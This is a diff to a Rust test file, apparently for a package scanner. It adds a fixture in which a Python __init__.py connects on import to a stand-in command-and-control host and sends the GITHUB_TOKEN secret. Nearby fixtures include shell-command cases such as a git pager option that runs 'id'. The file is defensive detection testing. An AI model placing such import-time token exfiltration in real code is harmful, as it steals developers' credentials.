@@ -585,6 +585,7 @@ fn second_round_faults() {
         ("git-then-echo", "setup.py", "import subprocess\nv = subprocess.check_output('git describe --tags || echo airlock-test', shell=True)\n", "python-shell-command", Some(High)),
         ("git-dash-c", "setup.py", "import os\nos.system('git -c core.pager=id log')\n", "python-shell-command", Some(High)),
         ("doxygen", "setup.py", "import os\nos.system('doxygen')\n", "python-shell-command", Some(High)),
+        ("asyncio-stream", "__init__.py", "import asyncio, os\nasync def go():\n    r, w = await asyncio.open_connection('c2.example.invalid', 443)\n    w.write(os.environ['GITHUB_TOKEN'].encode())\nasyncio.run(go())\n", "python-network-at-load", Some(Medium)),
         ("argv-option", "setup.py", "import os, sys\nif '--dist-dir' in sys.argv:\n    os.system('echo airlock-test')\n", "python-shell-command", Some(High)),
     ];
     for (case, file, src, rule, want) in cases {
